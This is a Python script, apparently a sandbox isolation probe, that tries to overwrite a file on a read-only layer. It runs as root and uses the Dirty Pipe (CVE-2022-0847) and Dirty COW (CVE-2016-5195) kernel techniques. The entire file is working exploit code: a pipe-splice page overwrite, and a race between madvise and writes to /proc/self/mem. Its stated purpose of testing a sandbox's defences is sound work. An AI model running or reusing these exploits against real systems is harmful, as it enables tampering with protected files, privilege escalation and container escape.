# SPDX-License-Identifier: Apache-2.0
"""Tries to change a file of a read-only layer in the kernel's memory, past its layer. Runs inside, as root.

The ways of CVE-2022-0847 (a pipe that takes over a page and is then written to) and CVE-2016-5195 (a private mapping
that loses its copy while it is written). Argument: the file. Prints what this sandbox reads in it afterwards.
"""

import ctypes
import mmap
import os
import sys
import threading
import time

_SECONDS = 2.0
_DONT_NEED = 4
path = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)


def through_a_pipe() -> None:
    file = os.open(path, os.O_RDONLY)
    reader, writer = os.pipe()
    os.set_blocking(writer, False)
    size = 0
    try:
        while True:
            size += os.write(writer, bytes(4096))
    except BlockingIOError:
        pass
    while size:
        size -= len(os.read(reader, size))
    assert os.splice(file, writer, 1, offset_src=0) == 1
    os.write(writer, b"changed by a pipe")


def through_a_mapping() -> None:
    file = os.open(path, os.O_RDONLY)
    libc.mmap.restype = ctypes.c_void_p
    address = libc.mmap(None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_PRIVATE, file, 0)
    memory = os.open("/proc/self/mem", os.O_RDWR)
    end = time.monotonic() + _SECONDS

    def drop() -> None:
        while time.monotonic() < end:
            libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), _DONT_NEED)

    dropper = threading.Thread(target=drop)
    dropper.start()
    while time.monotonic() < end:
        try:
            os.pwrite(memory, b"changed by a mapping", address)
        except OSError:
            break
    dropper.join()


for way in (through_a_pipe, through_a_mapping):
    try:
        way()
    except OSError as error:
        sys.stderr.write(f"{way.__name__}: {error}\n")
with open(path) as file:
    print(f'"{file.readline().strip()}"')
